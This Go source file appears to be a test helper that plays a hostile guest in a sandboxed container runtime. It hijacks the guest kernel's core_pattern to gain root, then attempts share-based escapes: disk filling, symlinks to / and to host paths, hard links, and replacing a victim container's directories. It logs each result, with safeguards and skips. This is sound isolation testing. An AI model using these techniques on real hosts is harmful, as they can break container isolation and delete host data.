// Command hostile plays a guest that a privileged container has taken over,
// for the e2e hostile-guest test (e2e/hostile_test.go). It is built static
// and put in a volume of a privileged container, next to config.json.
//
//	hostile trigger DIR
//
// runs in the privileged container, DIR being the volume it lies in: it
// finds the volume's path in the guest, makes the guest kernel's
// core_pattern run this binary, crashes a process, and waits for the report.
//
//	hostile
//
// (no arguments) is how the guest kernel runs it for the core dump: as root
// in the guest's initial namespaces, where the sandbox's share is mounted.
// It then tries, through the share, what a hostile guest would to reach the
// host, and writes what happened to report.json next to itself. The guest
// has no shell, hence one static Go binary for both.
package main

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// Config is config.json, written by the test on the host.
type Config struct {
	// Share is where the guest mounts the sandbox's shared directory.
	Share string `json:"share"`
	// Victim is the id of the pod's other container, whose directory in
	// the share is attacked.
	Victim string `json:"victim"`
	// VictimVolume ends the name of the victim's read-only volume under
	// <Share>/<Victim>/mounts ("<index>-<destination with dashes>").
	VictimVolume string `json:"victimVolume"`
	// VolumeFile is a file in that volume, and VolumeContent its content.
	VolumeFile    string `json:"volumeFile"`
	VolumeContent string `json:"volumeContent"`
	// CanaryDir, CanaryVolume and CanaryFile are host paths outside the
	// pod's state: symlinks to them are what the attacks plant.
	CanaryDir    string `json:"canaryDir"`
	CanaryVolume string `json:"canaryVolume"`
	CanaryFile   string `json:"canaryFile"`
	// FillBytes bounds what the fill attack writes.
	FillBytes int64 `json:"fillBytes"`
}

// Report is report.json.
type Report struct {
	UID  int `json:"uid"`
	EUID int `json:"euid"`
	// Namespaces maps each namespace type to this process's and PID 1's
	// (the guest's init) namespace, as /proc/*/ns links read.
	Namespaces map[string][2]string `json:"namespaces"`
	// InitNamespaces is set when all of them are PID 1's.
	InitNamespaces bool `json:"initNamespaces"`
	// Self is the helper's path in the guest; Attacker the container id
	// whose volume it lies in.
	Self     string   `json:"self"`
	Attacker string   `json:"attacker"`
	Attacks  []Result `json:"attacks"`
	// Error is a precondition that failed (then Attacks is partial).
	Error string `json:"error,omitempty"`
	// TimedOut is set when the hard deadline ended the run.
	TimedOut bool `json:"timedOut,omitempty"`
}

// Result is one attempt.
type Result struct {
	Name string `json:"name"`
	// Op says what was tried, for the test's log.
	Op string `json:"op"`
	// Errno is "" on success, the errno's name (EROFS) on failure, or
	// Skipped.
	Errno string `json:"errno"`
	Err   string `json:"err,omitempty"`
}

// Skipped is the Errno of an attempt not made because, with the host
// vulnerable, it could harm the machine running the test.
const Skipped = "SKIPPED"

const (
	configName = "config.json"
	reportName = "report.json"
	logName    = "hostile.log"
	lockName   = "hostile.lock"
	// deadline bounds the helper's whole run: the guest kernel waits for
	// no one, but the test does.
	deadline = 100 * time.Second
	// fillTime bounds the fill attack, which under TCG is slow.
	fillTime = 30 * time.Second
	// reportWait bounds how long trigger waits for the report.
	reportWait = 150 * time.Second
	// corenameMax is the kernel's CORENAME_MAX_SIZE: core_pattern is cut
	// there.
	corenameMax = 128
)

func main() {
	switch {
	case len(os.Args) == 1:
		os.Exit(helper(os.Args[0]))
	case len(os.Args) == 3 && os.Args[1] == "trigger":
		if err := trigger(os.Args[2]); err != nil {
			fmt.Fprintln(os.Stderr, "hostile trigger:", err)
			os.Exit(1)
		}
	default:
		fmt.Fprintln(os.Stderr, "usage: hostile trigger DIR (in a privileged container); hostile (as core_pattern helper)")
		os.Exit(2)
	}
}

func readConfig(dir string) (Config, error) {
	var cfg Config
	b, err := os.ReadFile(filepath.Join(dir, configName))
	if err != nil {
		return cfg, err
	}
	if err := json.Unmarshal(b, &cfg); err != nil {
		return cfg, fmt.Errorf("%s: %w", configName, err)
	}
	return cfg, nil
}

// trigger makes the guest kernel run this binary as its core dump helper.
func trigger(dir string) error {
	cfg, err := readConfig(dir)
	if err != nil {
		return err
	}
	root, err := mountRoot(dir)
	if err != nil {
		return err
	}
	// The volume's path inside the share is the mount's root; the share is
	// mounted at cfg.Share in the guest's initial mount namespace, where
	// the kernel resolves the helper.
	pattern := "|" + path.Join(cfg.Share, root, filepath.Base(os.Args[0]))
	if len(pattern) >= corenameMax {
		return fmt.Errorf("core_pattern %q is longer than the kernel keeps (%d)", pattern, corenameMax-1)
	}
	const corePattern = "/proc/sys/kernel/core_pattern"
	old, err := os.ReadFile(corePattern)
	if err != nil {
		return err
	}
	if err := os.WriteFile(corePattern, []byte(pattern), 0o644); err != nil {
		return fmt.Errorf("set core_pattern (is the container privileged?): %w", err)
	}
	// The guest is thrown away with the pod, but a later crash should not
	// run the helper again.
	defer os.WriteFile(corePattern, old, 0o644)
	fmt.Printf("core_pattern %s\n", pattern)

	// A piped core_pattern ignores RLIMIT_CORE except 1; unlimited anyway.
	if err := unix.Setrlimit(unix.RLIMIT_CORE, &unix.Rlimit{Cur: unix.RLIM_INFINITY, Max: unix.RLIM_INFINITY}); err != nil {
		return fmt.Errorf("RLIMIT_CORE: %w", err)
	}
	// busybox's sleep has SIGSEGV's default action: dump core.
	victim := exec.Command("/bin/sleep", "300")
	if err := victim.Start(); err != nil {
		return err
	}
	if err := victim.Process.Signal(syscall.SIGSEGV); err != nil {
		victim.Process.Kill()
	}
	waited := make(chan error, 1)
	go func() { waited <- victim.Wait() }()
	select {
	case err := <-waited:
		if ws, ok := victim.ProcessState.Sys().(syscall.WaitStatus); ok {
			fmt.Printf("crashed: %v, core dumped %v\n", ws.Signal(), ws.CoreDump())
		} else {
			fmt.Printf("crashed: %v\n", err)
		}
	case <-time.After(30 * time.Second):
		victim.Process.Kill()
		return errors.New("the crashing process did not end in 30s")
	}

	report := filepath.Join(dir, reportName)
	end := time.Now().Add(reportWait)
	for {
		// The test reads the report itself, from the host.
		if st, err := os.Stat(report); err == nil {
			fmt.Printf("%s: %d bytes\n", report, st.Size())
			return nil
		}
		if time.Now().After(end) {
			log, _ := os.ReadFile(filepath.Join(dir, logName))
			return fmt.Errorf("no report from the core_pattern helper after %v (helper log: %q)", reportWait, log)
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// mountRoot finds the mount at dir in this process's mount table and
// returns its root (field 4 of mountinfo): for a volume, its path inside
// the share.
func mountRoot(dir string) (string, error) {
	f, err := os.Open("/proc/self/mountinfo")
	if err != nil {
		return "", err
	}
	defer f.Close()
	root := ""
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		fields := strings.Fields(sc.Text())
		if len(fields) > 4 && fields[4] == dir {
			root = fields[3] // the last mount at dir is the visible one
		}
	}
	if err := sc.Err(); err != nil {
		return "", err
	}
	if root == "" {
		return "", fmt.Errorf("no mount at %s in /proc/self/mountinfo", dir)
	}
	return root, nil
}

// run is the helper's state: the report so far, guarded for the deadline.
type run struct {
	dir string
	mu  sync.Mutex
	rep Report
	log *os.File
}

func (r *run) logf(format string, args ...any) {
	if r.log != nil {
		fmt.Fprintf(r.log, time.Now().Format("15:04:05.000 ")+format+"\n", args...)
	}
}

// write writes the report next to the helper, atomically: the test and
// trigger read it as soon as it exists.
func (r *run) write() error {
	r.mu.Lock()
	b, err := json.MarshalIndent(r.rep, "", "  ")
	r.mu.Unlock()
	if err != nil {
		return err
	}
	tmp := filepath.Join(r.dir, reportName+".tmp")
	if err := os.WriteFile(tmp, b, 0o644); err != nil {
		return err
	}
	return os.Rename(tmp, filepath.Join(r.dir, reportName))
}

// helper is the core_pattern helper's run.
func helper(self string) int {
	// Stdin is the core dump: closing it ends the dump at once.
	os.Stdin.Close()
	dir := filepath.Dir(self)
	// One run only, whatever else crashes in the guest meanwhile.
	lock, err := os.OpenFile(filepath.Join(dir, lockName), os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o644)
	if err != nil {
		return 0
	}
	lock.Close()
	r := &run{dir: dir}
	r.log, _ = os.Create(filepath.Join(dir, logName))
	// A hard deadline: a hung attempt must not leave the test without a
	// report; the timer runs on its own thread even if a syscall hangs.
	time.AfterFunc(deadline, func() {
		r.mu.Lock()
		r.rep.TimedOut = true
		r.mu.Unlock()
		r.logf("deadline %v reached", deadline)
		r.write()
		os.Exit(3)
	})
	r.rep.Self = self
	if err := r.attack(); err != nil {
		r.mu.Lock()
		r.rep.Error = err.Error()
		r.mu.Unlock()
		r.logf("precondition: %v", err)
	}
	if err := r.write(); err != nil {
		r.logf("write report: %v", err)
		return 1
	}
	r.logf("done")
	return 0
}

// identify records who the helper runs as.
func (r *run) identify() {
	r.rep.UID, r.rep.EUID = os.Getuid(), os.Geteuid()
	r.rep.Namespaces = map[string][2]string{}
	r.rep.InitNamespaces = true
	for _, ns := range []string{"mnt", "pid", "net", "uts", "ipc", "user", "cgroup"} {
		self, err1 := os.Readlink("/proc/self/ns/" + ns)
		init, err2 := os.Readlink("/proc/1/ns/" + ns)
		if err := errors.Join(err1, err2); err != nil {
			self = err.Error()
		}
		r.rep.Namespaces[ns] = [2]string{self, init}
		if self != init || self == "" {
			r.rep.InitNamespaces = false
		}
	}
}

// record appends an attempt's result.
func (r *run) record(name, op string, err error) Result {
	res := Result{Name: name, Op: op}
	if err != nil {
		res.Errno, res.Err = errnoName(err), err.Error()
	}
	r.logf("%s: %s: %s %s", name, op, res.Errno, res.Err)
	r.mu.Lock()
	r.rep.Attacks = append(r.rep.Attacks, res)
	r.mu.Unlock()
	return res
}

func (r *run) skip(name, op, why string) {
	r.logf("%s: skipped: %s", name, why)
	r.mu.Lock()
	r.rep.Attacks = append(r.rep.Attacks, Result{Name: name, Op: op, Errno: Skipped, Err: why})
	r.mu.Unlock()
}

func errnoName(err error) string {
	var errno syscall.Errno
	if errors.As(err, &errno) {
		if n := unix.ErrnoName(errno); n != "" {
			return n
		}
		return fmt.Sprintf("errno %d", int(errno))
	}
	return "not an errno"
}

// attack runs the attempts in an order where each still has its target: the
// victim's volume before the victim's directory goes, the directory's
// rename before symlinks take its name. It returns an error only for a
// failed precondition, which would make the attempts meaningless.
func (r *run) attack() error {
	r.identify()
	cfg, err := readConfig(r.dir)
	if err != nil {
		return err
	}
	share := path.Clean(cfg.Share)
	rel, ok := strings.CutPrefix(r.dir, share+"/")
	if !ok {
		return fmt.Errorf("helper %s is not below the share %s", r.rep.Self, share)
	}
	r.rep.Attacker, _, _ = strings.Cut(rel, "/")
	victim := path.Join(share, cfg.Victim)
	mounts := path.Join(victim, "mounts")
	ownRootfs := path.Join(share, r.rep.Attacker, "rootfs")

	entries, err := os.ReadDir(mounts)
	if err != nil {
		return fmt.Errorf("the victim's mounts: %w", err)
	}
	volume := ""
	for _, e := range entries {
		if strings.HasSuffix(e.Name(), cfg.VictimVolume) {
			volume = path.Join(mounts, e.Name())
		}
	}
	if volume == "" {
		return fmt.Errorf("no volume *%s in %s", cfg.VictimVolume, mounts)
	}
	volumeFile := path.Join(volume, cfg.VolumeFile)

	// Controls: what the guest may do works, so the failures below are the
	// share being read-only and not the helper being lost.
	b, err := os.ReadFile(volumeFile)
	if err == nil && string(b) != cfg.VolumeContent {
		err = fmt.Errorf("read %q, want %q", b, cfg.VolumeContent)
	}
	r.record("control-read-victim-volume", "read "+volumeFile, err)
	r.record("control-create-in-own-rootfs", "create "+ownRootfs+"/hostile-control", create(path.Join(ownRootfs, "hostile-control")))

	// Files where the guest must write nothing: the share's root, another
	// container's directory, the directory of its mounts, its own.
	rootCreate := r.record("create-at-share-root", "create "+share+"/hostile-file", create(path.Join(share, "hostile-file")))
	r.record("create-in-victim-dir", "create "+victim+"/hostile-file", create(path.Join(victim, "hostile-file")))
	r.record("create-in-victim-mounts", "create "+mounts+"/hostile-file", create(path.Join(mounts, "hostile-file")))
	r.record("create-in-own-dir", "create "+path.Join(share, r.rep.Attacker, "hostile-file"), create(path.Join(share, r.rep.Attacker, "hostile-file")))
	r.record("mkdir-at-share-root", "mkdir "+share+"/hostile-dir", os.Mkdir(path.Join(share, "hostile-dir"), 0o755))

	// Fill the host's disk through the share's root, bounded.
	fillPath := path.Join(share, "hostile-fill")
	n, err := fill(fillPath, cfg.FillBytes, fillTime)
	r.record("fill-share-root", fmt.Sprintf("write %d of %d bytes to %s", n, cfg.FillBytes, fillPath), err)

	// A symlink to / where the host might act on it.
	r.record("symlink-slash-at-share-root", "symlink / at "+share+"/hostile-slash", os.Symlink("/", path.Join(share, "hostile-slash")))

	// Hard links: a file of the victim's read-only volume to where it
	// could be written or swapped, and a host file by its host path (which
	// the guest resolves in its own namespace, where it does not exist).
	r.record("hardlink-volume-to-share-root", "link "+volumeFile+" to "+share+"/hostile-link", os.Link(volumeFile, path.Join(share, "hostile-link")))
	r.record("hardlink-volume-to-own-rootfs", "link "+volumeFile+" to "+ownRootfs+"/hostile-link", os.Link(volumeFile, path.Join(ownRootfs, "hostile-link")))
	r.record("hardlink-host-file-to-own-rootfs", "link "+cfg.CanaryFile+" to "+ownRootfs+"/hostile-host-link", os.Link(cfg.CanaryFile, path.Join(ownRootfs, "hostile-host-link")))

	// Replace the victim's volume by a symlink to a host directory: the
	// volume itself is a mount point, so its parent is tried too.
	r.record("replace-volume-rename", "rename "+volume, os.Rename(volume, volume+".moved"))
	r.record("replace-volume-rmdir", "rmdir "+volume, unix.Rmdir(volume))
	r.record("replace-volume-unlink", "unlink "+volume, unix.Unlink(volume))
	r.record("replace-volume-symlink", "symlink "+cfg.CanaryVolume+" at "+volume, os.Symlink(cfg.CanaryVolume, volume))
	r.record("replace-mounts-rename", "rename "+mounts, os.Rename(mounts, mounts+".moved"))
	r.record("replace-mounts-mkdir", "mkdir "+mounts, os.Mkdir(mounts, 0o755))
	r.record("replace-mounts-symlink", "symlink "+cfg.CanaryVolume+" at "+volume, os.Symlink(cfg.CanaryVolume, volume))

	// Replace the victim's directory by a symlink to a host directory: on
	// removal the host unmounts and deletes what the container's directory
	// leads to.
	renamed := r.record("rename-victim-dir", "rename "+victim, os.Rename(victim, victim+".moved"))
	// A symlink to / in its place would make a vulnerable host unmount and
	// delete everything: only tried where the name is still taken, or the
	// share's root refused a file; if it worked anyway, it is undone at
	// once, before the host can see it.
	const slashOp = "symlink / in place of the victim's directory"
	if renamed.Errno == "" && rootCreate.Errno == "" {
		r.skip("symlink-slash-for-victim-dir", slashOp, "the share is writable and the victim's directory was renamed away: a symlink to / there would make a vulnerable host unmount and delete /")
	} else if res := r.record("symlink-slash-for-victim-dir", slashOp, os.Symlink("/", victim)); res.Errno == "" {
		if err := os.Remove(victim); err != nil {
			r.logf("undo the symlink to / at %s: %v", victim, err)
		}
	}
	r.record("symlink-host-dir-for-victim-dir", "symlink "+cfg.CanaryDir+" at "+victim, os.Symlink(cfg.CanaryDir, victim))
	return nil
}

// create creates a new file at p and writes to it.
func create(p string) error {
	f, err := os.OpenFile(p, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o644)
	if err != nil {
		return err
	}
	_, err = f.WriteString("written by a hostile guest\n")
	return errors.Join(err, f.Close())
}

// fill writes up to n bytes to a new file at p for at most limit, and
// returns how many it wrote; nil means the writes were accepted.
func fill(p string, n int64, limit time.Duration) (int64, error) {
	f, err := os.OpenFile(p, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o644)
	if err != nil {
		return 0, err
	}
	buf := make([]byte, 1<<20)
	for i := range buf {
		buf[i] = 'x'
	}
	var written int64
	end := time.Now().Add(limit)
	for written < n && time.Now().Before(end) {
		k, err := f.Write(buf[:min(int64(len(buf)), n-written)])
		written += int64(k)
		if err != nil {
			f.Close()
			return written, err
		}
	}
	return written, f.Close()
}
